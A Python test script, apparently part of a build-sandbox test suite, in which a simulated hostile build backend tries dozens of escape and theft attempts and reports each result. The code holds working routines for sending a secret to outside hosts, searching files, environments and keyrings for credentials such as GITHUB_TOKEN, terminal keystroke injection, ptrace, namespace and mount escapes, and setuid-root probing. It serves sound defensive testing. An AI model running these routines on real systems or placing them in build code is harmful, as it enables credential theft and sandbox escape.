# ruff: noqa: PTH118, PTH116, PTH208, PTH115, T201
"""What a hostile build backend tries. It runs inside a sandbox: ``attacker.py SETTINGS.json``; one line per attempt.

A line is ``kept <attempt>: <why>`` or ``GOT <attempt>: <what>``. Only the standard library is used.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import hashlib
import json
import os
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {"keyctl": 250, "add_key": 248, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "syslog": 103},
    "aarch64": {"keyctl": 219, "add_key": 217, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "syslog": 116},
}[os.uname().machine]
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000
FIRST_BYTES = 1 << 20
SKIPPED: set[str] = set()
ATTEMPTS: dict[str, Callable[[dict[str, Any]], object]] = {}


class Kept(Exception):  # noqa: N818 - it is no error
    """The attempt came to nothing; the text says why."""


def attempt(function: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], object]:
    """Note a function as an attempt: what it returns is loot, and what it raises kept it from it."""
    ATTEMPTS[function.__name__] = function
    return function


def call(name: str, *arguments: Any) -> int:
    """Make a system call by name. Raises OSError."""
    result: int = LIBC.syscall(NUMBERS[name], *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def checked(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def none(loot: object) -> object:
    """Return the loot, or raise when there is none."""
    if not loot:
        raise Kept("nothing there")
    return loot


@attempt
def tcp(settings: dict[str, Any]) -> object:
    said = []
    for host in settings["hosts"]:
        with contextlib.suppress(OSError):
            socket.create_connection((host, settings["tcp"]), 2).close()
            said.append(host)
    return none(said)


@attempt
def udp(settings: dict[str, Any]) -> object:
    """What is sent may be lost without a word: the test's server is the one who tells."""
    for host in settings["hosts"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(settings["secret"].encode(), (host, settings["udp"]))
    raise Kept("sent; the server knows")


@attempt
def names(_: dict[str, Any]) -> object:
    return socket.getaddrinfo("pypi.org", 443)


@attempt
def abstract_socket(settings: dict[str, Any]) -> object:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + settings["abstract"])
        return "connected"


@attempt
def sockets_in_folders(settings: dict[str, Any]) -> object:
    found = []
    for path in (*settings["sockets"], *filter(is_socket, crawl("/run", "/var", "/tmp", "/dev"))):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.connect(path)
            found.append(path)
    return none(found)


@attempt
def virtual_machine_socket(_: dict[str, Any]) -> object:
    with socket.socket(socket.AF_VSOCK) as client:
        client.settimeout(2)
        return f"may talk to the hypervisor, {client}"


@attempt
def raw_and_other_sockets(_: dict[str, Any]) -> object:
    found = []
    for family, kind in (
        (socket.AF_PACKET, socket.SOCK_RAW),
        (socket.AF_ALG, socket.SOCK_SEQPACKET),
        (socket.AF_INET, socket.SOCK_RAW),
        (44, socket.SOCK_RAW),
    ):
        with contextlib.suppress(OSError):
            socket.socket(family, kind).close()
            found.append(family)
    return none(found)


@attempt
def secret_in_any_file(settings: dict[str, Any]) -> object:
    """Look for the secret in all that can be read, processes' environments, memory maps and folders included."""
    secret, own = settings["secret"].encode(), settings["own"]
    return none([path for path in crawl("/", own=own) if secret in content(path)])


@attempt
def secret_in_the_environment(settings: dict[str, Any]) -> object:
    names = ("SSH_AUTH_SOCK", "GNUPGHOME", "TWINE_PASSWORD", "SUDO_UID", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY")
    return none([name for name in os.environ if name in names or settings["secret"] in os.environ[name]])


@attempt
def host_paths(settings: dict[str, Any]) -> object:
    found = []
    for path in settings["paths"]:
        with contextlib.suppress(OSError):
            Path(path).stat()
            found.append(path)
    return none(found)


@attempt
def host_paths_by_proc(settings: dict[str, Any]) -> object:
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        for way in ("root", "cwd"):
            for path in settings["paths"]:
                with contextlib.suppress(OSError):
                    (process / way / path.lstrip("/")).stat()
                    found.append(str(process / way))
    return none(found)


@attempt
def shadow(settings: dict[str, Any]) -> object:
    """The root has a file of its own, without passwords; the host's is another one."""
    return none(hashlib.sha256(Path("/etc/shadow").read_bytes()).hexdigest() == settings["shadow"])


@attempt
def foreign_files(_: dict[str, Any]) -> object:
    """Files that belong to us outside of our folders would be those of the host's user with our number."""
    ours = ("/builddir", "/tmp", "/dev", "/proc", "/task", "/build", "/answer", "/var/lib", "/run/elpack", "/var/tmp")
    return none([path for path in crawl("/") if not path.startswith(ours) and os.lstat(path).st_uid == os.getuid()])


@attempt
def writable_outside(_: dict[str, Any]) -> object:
    ours: tuple[str, ...] = (
        "/builddir",
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/build",
        "/answer",
        "/task/home",
        "/proc/self",
        "/proc/thread-self",
        f"/proc/{os.getpid()}",
    )
    found = []
    ours += tuple(SKIPPED)
    for folder, folders, _files in os.walk("/"):
        folders[:] = [name for name in folders if not os.path.join(folder, name).startswith((*ours, "/proc"))]
        if os.access(folder, os.W_OK) and folder not in ours and not folder.startswith(("/var/lib/smoke", "/home")):
            found.append(folder)
    return none(found)


@attempt
def kernel_settings(_: dict[str, Any]) -> object:
    found = []
    for path in (*crawl("/proc/sys"), "/proc/sysrq-trigger", "/proc/acpi", "/sys/kernel/uevent_helper"):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            found.append(path)
    return none(found)


@attempt
def sys_folder(_: dict[str, Any]) -> object:
    return none(list(Path("/sys").iterdir()) if Path("/sys").exists() else [])


@attempt
def kernel_memory_and_log(_: dict[str, Any]) -> object:
    found = []
    for path in ("/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/dev/port"):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_RDONLY))
            found.append(path)
    buffer = ctypes.create_string_buffer(4096)
    with contextlib.suppress(OSError):
        if call("syslog", 3, buffer, 4096):
            found.append("syslog")
    return none(found)


@attempt
def devices(_: dict[str, Any]) -> object:
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}
    found = []
    for path in crawl("/"):
        with contextlib.suppress(OSError):
            mode = os.lstat(path).st_mode
            if (
                (stat.S_ISBLK(mode) or stat.S_ISCHR(mode))
                and Path(path).name not in harmless
                and not path.startswith("/dev/pts/")
            ):
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                found.append(path)
    return none(found)


@attempt
def make_a_device(_: dict[str, Any]) -> object:
    os.mknod("/tmp/disk", stat.S_IFBLK | 0o666, os.makedev(8, 0))
    return "made"


@attempt
def keyring(settings: dict[str, Any]) -> object:
    """Read the keys of the session that started us, and those of the user."""
    found = []
    buffer = ctypes.create_string_buffer(4096)
    for ring in (-3, -4, -5):  # session, user, user's session
        with contextlib.suppress(OSError):
            length = call("keyctl", 11, ring, buffer, 4096)
            for position in range(0, length, 4):
                key = int.from_bytes(buffer.raw[position : position + 4], sys.byteorder)
                held = ctypes.create_string_buffer(4096)
                with contextlib.suppress(OSError):
                    size = call("keyctl", 11, key, held, 4096)
                    if settings["secret"].encode() in held.raw[:size]:
                        found.append(key)
    with contextlib.suppress(OSError):
        call("add_key", b"user", b"elpack-left", b"note", 4, -4)
        found.append(-1)  # a note to the next build
    return none(found)


@attempt
def kernel_surface(_: dict[str, Any]) -> object:
    found = []
    for name in ("bpf", "perf_event_open", "userfaultfd"):
        try:
            call(name, 0, 0, 0, 0, 0)
            found.append(name)
        except OSError as error:
            if error.errno not in {1, 38}:  # EPERM and ENOSYS are no; EINVAL and EFAULT came from inside
                found.append(f"{name} ({error.strerror})")
    return none(found)


@attempt
def user_namespace(_: dict[str, Any]) -> object:
    return in_child(lambda: checked(LIBC.unshare(CLONE_NEWUSER)))


@attempt
def user_namespace_by_program(_: dict[str, Any]) -> object:
    return run("unshare", "--user", "--map-root-user", "mount", "-t", "tmpfs", "none", "/mnt")


@attempt
def other_namespaces(_: dict[str, Any]) -> object:
    return in_child(lambda: checked(LIBC.unshare(CLONE_NEWNS | CLONE_NEWNET)))


@attempt
def mount(_: dict[str, Any]) -> object:
    checked(LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None))
    return "mounted"


@attempt
def remount(_: dict[str, Any]) -> object:
    checked(LIBC.mount(b"none", b"/", None, 32, None))
    return "remounted"


@attempt
def chroot(_: dict[str, Any]) -> object:
    return in_child(lambda: os.chroot("/tmp"))


@attempt
def become_root(_: dict[str, Any]) -> object:
    os.setuid(0)
    return os.getresuid()


@attempt
def capabilities(_: dict[str, Any]) -> object:
    lines = [
        line
        for line in Path("/proc/self/status").read_text().splitlines()
        if line.startswith(("CapPrm", "CapEff", "CapAmb"))
    ]
    return none([line for line in lines if int(line.split()[1], 16)])


@attempt
def new_privileges(_: dict[str, Any]) -> object:
    return none("NoNewPrivs:\t1" not in Path("/proc/self/status").read_text())


@attempt
def setuid_programs(_: dict[str, Any]) -> object:
    """A set-user-id program of the root's would run as root."""
    found = []
    for path in crawl("/usr/bin", "/usr/sbin", "/usr/libexec", "/tmp"):
        with contextlib.suppress(OSError):
            if os.stat(path).st_mode & stat.S_ISUID and run(path, "-c", "id -u").strip() == "0":
                found.append(path)
    return none(found)


@attempt
def other_processes(_: dict[str, Any]) -> object:
    """Nobody but what we are made of should be seen."""
    own = {"bwrap", "sh", "bash", "setpriv", "rpmbuild", "python3", "python3.11", Path(sys.executable).resolve().name}
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            name = (process / "comm").read_text().strip()
            if name not in own:
                found.append(name)
    return none(found)


@attempt
def signals(settings: dict[str, Any]) -> object:
    """The victim runs on the host under our own number; the test looks whether it is still there."""
    with contextlib.suppress(OSError):
        os.kill(settings["victim"], 0)
        return "the victim can be seen"
    raise Kept("no such process")


@attempt
def first_process(_: dict[str, Any]) -> object:
    checked(LIBC.ptrace(0x4206, 1, 0, 0))  # PTRACE_SEIZE, which does not stop it
    return "traced"


@attempt
def terminal(_: dict[str, Any]) -> object:
    descriptor = os.open("/dev/tty", os.O_RDWR)
    for byte in b"id\n":
        fcntl.ioctl(descriptor, 0x5412, bytes([byte]))  # TIOCSTI
    return "typed"


@attempt
def clock_and_host_name(_: dict[str, Any]) -> object:
    found = []
    with contextlib.suppress(OSError):
        socket.sethostname("taken")
        found.append("host name")
    with contextlib.suppress(OSError):
        time.clock_settime(time.CLOCK_REALTIME, time.time() + 3600)
        found.append("clock")
    return none(found)


@attempt
def log_file(_: dict[str, Any]) -> object:
    """Our output may be a file of the host's: make it huge, or forget what was in it."""
    found = []
    with contextlib.suppress(OSError):
        if stat.S_ISREG(os.fstat(1).st_mode):
            os.posix_fallocate(1, 0, 64 << 20)
            found.append("took 64 MB of the host's disk by the log")
    with contextlib.suppress(OSError):
        os.close(os.open("/proc/self/fd/1", os.O_RDONLY | os.O_NONBLOCK))
        if stat.S_ISREG(os.fstat(1).st_mode):
            found.append("reads the log")
    return none(found)


@attempt
def open_files(_: dict[str, Any]) -> object:
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            where = os.readlink(f"/proc/self/fd/{name}")
            if int(name) > 2 and not where.startswith(
                ("/proc", "/builddir", "/build", "/elpack", "/run/elpack", "/dev/null")
            ):
                found.append(where)
    return none(found)


@attempt
def core_dumps(_: dict[str, Any]) -> object:
    import resource

    return none(resource.getrlimit(resource.RLIMIT_CORE)[1])


def crawl(*starts: str, own: str = "") -> Iterator[str]:
    """Yield all files below the folders, but for our own settings and what the test skips: programs of the host's."""
    for start in starts:
        if start.startswith(tuple(SKIPPED)):
            continue
        for folder, folders, files in os.walk(start):
            inside = [] if folder in SKIPPED else folders
            proc = folder.startswith("/proc/")
            folders[:] = [name for name in inside if not (proc and name in {"task", "map_files", "net"})]
            for name in () if folder in SKIPPED else files:
                path = os.path.join(folder, name)
                if not own or not path.startswith(own):
                    yield path


def is_socket(path: str) -> bool:
    with contextlib.suppress(OSError):
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    return False


def content(path: str) -> bytes:
    with contextlib.suppress(OSError):
        if path.startswith(("/proc/", "/sys/")) and not path.startswith(tuple(f"/proc/{n}" for n in "123456789")):
            return b""
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            mode = os.fstat(descriptor).st_mode
            return os.read(descriptor, FIRST_BYTES) if stat.S_ISREG(mode) else b""
        finally:
            os.close(descriptor)
    return b""


def in_child(action: Callable[[], object]) -> object:
    child = os.fork()
    if child == 0:
        try:
            action()
        except BaseException:  # noqa: BLE001 - the exit code tells
            os._exit(1)
        os._exit(0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
        raise Kept("refused")
    return "done"


def run(*command: str) -> str:
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=5, check=False)
    if done.returncode:
        raise Kept(done.stderr.strip().splitlines()[-1] if done.stderr.strip() else f"ended with {done.returncode}")
    return done.stdout or "done"


def main(file: str) -> None:
    """Make every attempt, and say what became of each."""
    settings = json.loads(Path(file).read_text())
    settings["own"] = str(Path(file).absolute().parent)
    SKIPPED.update(settings.get("skip", ()))
    for name, function in ATTEMPTS.items():
        try:
            line = f"GOT {name}: {str(function(settings))[:300]!r}"
        except (Kept, OSError, subprocess.SubprocessError) as error:
            line = f"kept {name}: {error}"
        print(line, flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
